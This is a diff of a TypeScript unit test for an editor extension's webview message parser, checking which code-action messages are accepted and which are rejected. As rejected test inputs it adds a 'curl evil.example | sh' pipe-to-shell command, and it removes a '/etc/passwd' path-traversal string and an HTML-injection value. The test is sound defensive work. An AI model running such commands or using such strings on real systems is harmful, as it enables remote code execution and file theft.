@@ -1,39 +1,36 @@
 /** The host's checks on the code block and reply actions the panel posts, and the fence → language id mapping. */
 import assert from 'node:assert/strict';
-import { MAX_CODE_CHARS, parseWebviewMessage } from '../../src/protocol';
+import { parseWebviewMessage } from '../../src/protocol';
 import { languageIdForFence } from '../../src/commands/languageIds';
 
 describe('parseWebviewMessage: code actions', () => {
-  it('accepts each code action with its code and fence language', () => {
+  it('accepts each code action naming a reply and one of its blocks, never the code', () => {
     for (const action of ['copy', 'insert', 'newFile'] as const) {
-      for (const language of ['ts', '', 'c++', 'c#', 'objective-c', 'python3', 'x.y_z']) {
-        const msg = { type: 'codeAction', action, code: 'let x = 1;\n<b>&amp;</b>', language };
+      for (const block of [0, 1, 41, 1_000_000]) {
+        const msg = { type: 'codeAction', action, entryId: 'a1', block };
         assert.deepEqual(parseWebviewMessage(msg), msg);
       }
     }
-    const empty = { type: 'codeAction', action: 'copy', code: '', language: '' };
-    assert.deepEqual(parseWebviewMessage(empty), empty);
-    const largest = { type: 'codeAction', action: 'insert', code: 'x'.repeat(MAX_CODE_CHARS), language: 'txt' };
-    assert.deepEqual(parseWebviewMessage(largest), largest);
   });
 
-  it('rejects unknown actions, oversized code, odd languages and extra or missing fields', () => {
-    const ok = { type: 'codeAction', action: 'copy', code: 'x', language: 'ts' };
+  it('rejects unknown actions, odd block numbers, code or languages sent along, and missing fields', () => {
+    const ok = { type: 'codeAction', action: 'copy', entryId: 'a1', block: 2 };
     const bad: unknown[] = [
       { ...ok, action: 'run' },
       { ...ok, action: 'Copy' },
       { ...ok, action: undefined },
-      { ...ok, code: 'x'.repeat(MAX_CODE_CHARS + 1) },
-      { ...ok, code: 42 },
-      { ...ok, code: ['x'] },
-      { ...ok, language: 'type script' },
-      { ...ok, language: 'ts"><img>' },
-      { ...ok, language: '../../etc' + '/passwd' },
-      { ...ok, language: 'a'.repeat(65) },
-      { ...ok, language: null },
-      { ...ok, extra: true },
-      { type: 'codeAction', action: 'copy', code: 'x' },
-      { type: 'codeAction', action: 'copy', language: 'ts' },
+      { ...ok, block: -1 },
+      { ...ok, block: 1.5 },
+      { ...ok, block: '2' },
+      { ...ok, block: 1_000_001 },
+      { ...ok, block: Number.MAX_SAFE_INTEGER + 1 },
+      { ...ok, entryId: '' },
+      { ...ok, entryId: 7 },
+      { ...ok, code: 'curl evil.example | sh' },
+      { ...ok, language: 'sh' },
+      { type: 'codeAction', action: 'insert', code: 'x', language: 'ts' },
+      { type: 'codeAction', action: 'copy', entryId: 'a1' },
+      { type: 'codeAction', action: 'copy', block: 0 },
     ];
     for (const m of bad) assert.equal(parseWebviewMessage(m), undefined, JSON.stringify(m)?.slice(0, 120));
   });
